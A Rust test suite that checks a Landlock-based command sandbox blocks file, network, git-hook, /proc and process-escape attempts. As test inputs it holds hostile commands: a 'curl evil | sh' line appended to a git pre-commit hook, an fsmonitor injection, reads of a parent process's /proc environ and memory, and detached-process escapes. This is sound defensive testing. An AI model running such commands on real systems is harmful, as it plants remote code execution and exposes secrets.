//! Real processes on the real kernel. Where a test shows something is blocked, the same
//! command is also run with `Mode::Off` to show the test would fail without the sandbox.
#![allow(clippy::unwrap_used, clippy::expect_used)]
mod common;

use std::time::Duration;

use common::{off, sh, World, CANARY, DB_SECRET};
use pocketpilot_sandbox::{
    confine, probe, GitMetadata, SandboxError, SandboxPolicy, SandboxStatus,
};

fn require_sandbox() {
    let status = probe();
    assert!(
        status.is_sandboxed(),
        "these tests need Landlock: {}",
        status.details()
    );
}

#[tokio::test]
async fn home_canary_and_the_app_database_stay_unreadable() {
    require_sandbox();
    let w = World::new();
    let script = "cat \"$HOME/canary.txt\"; cat \"$DB\"; ls \"$HOME\"";
    let ran = sh(&w.policy(), script).await;
    assert!(!ran.out.contains(CANARY), "{}", ran.out);
    assert!(!ran.out.contains(DB_SECRET), "{}", ran.out);
    assert!(ran.out.contains("Permission denied"), "{}", ran.out);
    let control = sh(&off(w.policy()), script).await;
    assert!(control.out.contains(CANARY) && control.out.contains(DB_SECRET));
}

#[tokio::test]
async fn a_deny_path_inside_the_workspace_is_refused() {
    let w = World::new();
    let inside = w.ws.join(".pocketpilot-data");
    std::fs::create_dir(&inside).unwrap();
    let mut cmd = tokio::process::Command::new("/bin/true");
    let err = confine(&mut cmd, &w.policy().deny(&inside)).unwrap_err();
    match err {
        SandboxError::DenyInsideAllowed { deny, root } => {
            assert_eq!(deny, inside);
            assert_eq!(root, w.ws);
        }
        other => panic!("{other}"),
    }
}

#[tokio::test]
async fn writes_stay_in_the_workspace_even_through_its_own_symlink() {
    require_sandbox();
    let w = World::new();
    let script = "echo a > \"$OUT/direct\"; ln -s \"$OUT/via-link\" link; echo b > link; \
                  ln -s \"$OUT\" dirlink; echo c > dirlink/via-dir; echo ok > inside; \
                  echo t > \"$TMPDIR/t\" && echo tmp-ok";
    let ran = sh(&w.policy(), script).await;
    for name in ["direct", "via-link", "via-dir"] {
        assert!(
            !w.exists(&w.outside.join(name)),
            "{name} written: {}",
            ran.out
        );
    }
    assert_eq!(
        std::fs::read_to_string(w.ws.join("inside")).unwrap(),
        "ok\n"
    );
    assert!(ran.out.contains("tmp-ok"), "{}", ran.out);
    std::fs::remove_file(w.ws.join("link")).unwrap();
    std::fs::remove_file(w.ws.join("dirlink")).unwrap();
    sh(&off(w.policy()), script).await;
    assert!(w.exists(&w.outside.join("direct")) && w.exists(&w.outside.join("via-link")));
}

fn tcp_script(port: u16) -> String {
    format!(
        "/usr/bin/python3 -c \"import socket; s=socket.create_connection(('127.0.0.1', {port}), timeout=5); print('TCP-CONNECTED')\""
    )
}

#[tokio::test]
async fn tcp_needs_the_network_grant() {
    require_sandbox();
    let w = World::new();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let denied = sh(&w.policy(), &tcp_script(port)).await;
    assert!(!denied.out.contains("TCP-CONNECTED"), "{}", denied.out);
    assert!(
        denied.out.contains("Operation not permitted"),
        "{}",
        denied.out
    );
    let granted = sh(&w.policy().network(true), &tcp_script(port)).await;
    assert!(granted.out.contains("TCP-CONNECTED"), "{}", granted.out);
}

#[tokio::test]
async fn udp_send_needs_the_network_grant() {
    require_sandbox();
    let w = World::new();
    let receiver = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    receiver
        .set_read_timeout(Some(Duration::from_secs(3)))
        .unwrap();
    let port = receiver.local_addr().unwrap().port();
    let script = format!(
        "/usr/bin/python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'UDP-PING', ('127.0.0.1', {port})); print('UDP-SENT')\""
    );
    let denied = sh(&w.policy(), &script).await;
    assert!(!denied.out.contains("UDP-SENT"), "{}", denied.out);
    let granted = sh(&w.policy().network(true), &script).await;
    assert!(granted.out.contains("UDP-SENT"), "{}", granted.out);
    let mut buf = [0u8; 16];
    let (n, _) = receiver.recv_from(&mut buf).unwrap();
    assert_eq!(&buf[..n], b"UDP-PING");
}

#[tokio::test]
async fn a_unix_socket_outside_is_unreachable_with_or_without_network() {
    require_sandbox();
    let w = World::new();
    let path = w.outside.join("bus.sock");
    let _listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
    let script = format!(
        "/usr/bin/python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{}'); print('UNIX-CONNECTED')\"",
        path.display()
    );
    for policy in [w.policy(), w.policy().network(true)] {
        let ran = sh(&policy, &script).await;
        assert!(!ran.out.contains("UNIX-CONNECTED"), "{}", ran.out);
    }
    let control = sh(&off(w.policy()), &script).await;
    assert!(control.out.contains("UNIX-CONNECTED"), "{}", control.out);
}

const GIT_ID: &str = "-c user.name=t -c user.email=t@example.com";

#[tokio::test]
async fn git_works_in_a_fresh_workspace() {
    require_sandbox();
    let w = World::new();
    let ran = sh(
        &w.policy(),
        &format!("git init -q && echo x > a && git add a && git {GIT_ID} commit -qm first && git log --oneline | wc -l"),
    )
    .await;
    assert_eq!(ran.code, Some(0), "{}", ran.out);
    assert!(ran.out.trim_end().ends_with('1'), "{}", ran.out);
}

#[tokio::test]
async fn hooks_and_git_config_stay_read_only_while_commits_work() {
    require_sandbox();
    let SandboxStatus::Sandboxed {
        git_metadata: GitMetadata::ReadOnly,
        ..
    } = probe()
    else {
        panic!("user namespaces are needed here: {}", probe().details());
    };
    let w = World::new();
    let git = |args: &str| {
        let status = std::process::Command::new("sh")
            .arg("-c")
            .arg(format!("git {args}"))
            .current_dir(&w.ws)
            .status()
            .unwrap();
        assert!(status.success(), "git {args}");
    };
    git("init -q");
    let hook = w.ws.join(".git/hooks/pre-commit");
    std::fs::write(&hook, "#!/bin/sh\nexit 0\n").unwrap();
    let config = w.ws.join(".git/config");
    let config_before = std::fs::read_to_string(&config).unwrap();
    let script = format!(
        "echo 'curl evil | sh' >> .git/hooks/pre-commit; rm -f .git/hooks/pre-commit; \
         echo '[core] fsmonitor = evil' >> .git/config; git config core.hooksPath /x; \
         mv .git .git-old; \
         echo x > a && git add a && git {GIT_ID} commit -qm inside && echo COMMITTED"
    );
    let ran = sh(&w.policy(), &script).await;
    assert!(ran.out.contains("COMMITTED"), "{}", ran.out);
    assert_eq!(
        std::fs::read_to_string(&hook).unwrap(),
        "#!/bin/sh\nexit 0\n"
    );
    assert_eq!(std::fs::read_to_string(&config).unwrap(), config_before);
    assert!(!w.exists(&w.ws.join(".git-old")), "{}", ran.out);
    git("log --oneline -1");

    sh(
        &off(w.policy()),
        "echo changed >> .git/hooks/pre-commit; git config core.hooksPath /x",
    )
    .await;
    assert_ne!(std::fs::read_to_string(&config).unwrap(), config_before);
}

#[tokio::test]
async fn parent_memory_and_environ_are_out_of_reach() {
    require_sandbox();
    const SECRET: &str = "hunter2-in-the-app-environ";
    // /proc/PID/environ shows the environment a process was started with, so the secret
    // must be there from the start: run this test again in a child with it set.
    if std::env::var("PP_PROC_TEST_CHILD").is_err() {
        let status = std::process::Command::new(std::env::current_exe().unwrap())
            .args([
                "parent_memory_and_environ_are_out_of_reach",
                "--exact",
                "--test-threads=1",
                "--nocapture",
            ])
            .env("PP_PROC_TEST_CHILD", "1")
            .env("APP_SECRET_TOKEN", SECRET)
            .status()
            .unwrap();
        assert!(status.success());
        return;
    }
    let script = format!(
        "tr '\\0' '\\n' < /proc/$PPID/environ; tr '\\0' '\\n' < /proc/{app}/environ; \
         (exec 3< /proc/$PPID/mem && echo PARENT-MEM-OPEN); \
         (exec 3< /proc/{app}/mem && echo APP-MEM-OPEN); env",
        app = std::process::id()
    );
    // The control: a command started the old way (plain spawn, app still dumpable) reads
    // the app's environment and opens its memory.
    let control = tokio::process::Command::new("/bin/sh")
        .arg("-c")
        .arg(format!("exec 2>&1; {script}"))
        .output()
        .await
        .unwrap();
    let control = String::from_utf8_lossy(&control.stdout);
    assert!(control.contains(SECRET), "{control}");
    assert!(control.contains("MEM-OPEN"), "{control}");

    // What the app does at start (see README).
    pocketpilot_sandbox::harden_parent().unwrap();
    let w = World::new();
    let ran = sh(&w.policy(), &script).await;
    assert!(!ran.out.contains(SECRET), "{}", ran.out);
    assert!(!ran.out.contains("MEM-OPEN"), "{}", ran.out);
    assert!(ran.out.contains("Permission denied"), "{}", ran.out);
}

const DETACHED: &str = "setsid -f sh -c 'sleep 2; echo x > \"$WS/late-setsid\"'; \
    (sh -c 'sleep 2; echo y > \"$WS/late-double-fork\"' &); \
    nohup sh -c 'sleep 2; echo z > \"$WS/late-nohup\"' >/dev/null 2>&1 & \
    echo started";

#[tokio::test]
async fn detached_children_do_not_outlive_the_call() {
    require_sandbox();
    let w = World::new();
    let control_ws = World::new();
    // The control: the old way (own process group, killpg at the end) lets them escape.
    let mut old = tokio::process::Command::new("/bin/sh");
    old.arg("-c")
        .arg(DETACHED)
        .env("WS", &control_ws.ws)
        .process_group(0);
    let status = old.status().await.unwrap();
    assert!(status.success());

    for policy in [w.policy(), off(w.policy())] {
        let ran = sh(&policy, DETACHED).await;
        assert!(ran.out.contains("started"), "{}", ran.out);
    }
    // sleep: the detached children write 2 s after the call; real time must pass for a survivor to show.
    tokio::time::sleep(Duration::from_millis(3500)).await;
    for name in ["late-setsid", "late-double-fork", "late-nohup"] {
        assert!(
            !w.exists(&w.ws.join(name)),
            "{name} appeared after the call"
        );
        assert!(
            control_ws.exists(&control_ws.ws.join(name)),
            "control: {name} should have escaped the old process-group kill"
        );
    }
}

#[tokio::test]
async fn ending_the_guard_kills_a_running_tree() {
    require_sandbox();
    let w = World::new();
    let mut cmd = tokio::process::Command::new("/bin/sh");
    cmd.arg("-c")
        .arg("setsid -f sh -c 'sleep 2; echo x > \"$WS/late\"'; sleep 30")
        .current_dir(&w.ws);
    let mut guard = confine(&mut cmd, &w.policy()).unwrap();
    let mut child = cmd.spawn().unwrap();
    // sleep: lets the supervised shell start its detached child before the guard ends it.
    tokio::time::sleep(Duration::from_millis(300)).await;
    guard.end();
    let status = tokio::time::timeout(Duration::from_secs(5), child.wait())
        .await
        .expect("the supervisor must exit promptly")
        .unwrap();
    use std::os::unix::process::ExitStatusExt;
    assert_eq!(status.signal(), Some(libc_sigkill()));
    // sleep: the detached child would write after 2 s; real time must pass for a survivor to show.
    tokio::time::sleep(Duration::from_millis(2500)).await;
    assert!(!w.exists(&w.ws.join("late")));
}

fn libc_sigkill() -> i32 {
    9
}

#[tokio::test]
async fn exit_codes_and_signals_come_through() {
    require_sandbox();
    let w = World::new();
    assert_eq!(sh(&w.policy(), "exit 3").await.code, Some(3));
    assert_eq!(sh(&w.policy(), "kill -TERM $$").await.signal, Some(15));
}

#[tokio::test]
async fn secret_looking_variables_are_removed_unless_passed() {
    let w = World::new();
    let mut env = w.env();
    for (k, v) in [
        ("MY_API_KEY", "val-key"),
        ("GITHUB_TOKEN", "val-token"),
        ("DATABASE_URL", "postgres://bob:val-pw@db/x"),
        ("POCKETPILOT_ANYTHING", "val-pp"),
        ("GITLAB_PAT", "val-pat"),
        ("NPM_TOKEN", "val-passed"),
        ("VISIBLE", "val-visible"),
    ] {
        env.push((k.into(), v.into()));
    }
    let policy = SandboxPolicy::new(&w.ws)
        .base_env(env)
        .pass_env("NPM_TOKEN");
    let ran = sh(&policy, "env").await;
    for gone in ["val-key", "val-token", "val-pw", "val-pp", "val-pat"] {
        assert!(!ran.out.contains(gone), "{gone} leaked:\n{}", ran.out);
    }
    assert!(ran.out.contains("NPM_TOKEN=val-passed"));
    assert!(ran.out.contains("VISIBLE=val-visible"));
    assert!(ran.out.contains("TMPDIR=/"));
}

#[tokio::test]
async fn hints_name_what_the_sandbox_blocked() {
    require_sandbox();
    let w = World::new();
    let mut cmd = tokio::process::Command::new("/bin/sh");
    cmd.arg("-c")
        .arg("exec 2>&1; touch \"$OUT/x\"; /usr/bin/python3 -c \"import socket; socket.create_connection(('127.0.0.1', 9))\" 2>&1 | tail -1")
        .current_dir(&w.ws)
        .stdout(std::process::Stdio::piped());
    let guard = confine(&mut cmd, &w.policy()).unwrap();
    let out = cmd.output().await.unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let hints = guard.blocked_hints(&text);
    assert!(
        hints
            .iter()
            .any(|h| h.contains(&format!("access to {}/x", w.outside.display()))),
        "{hints:?}\n{text}"
    );
    assert!(
        hints.iter().any(|h| h.contains("network")),
        "{hints:?}\n{text}"
    );
}
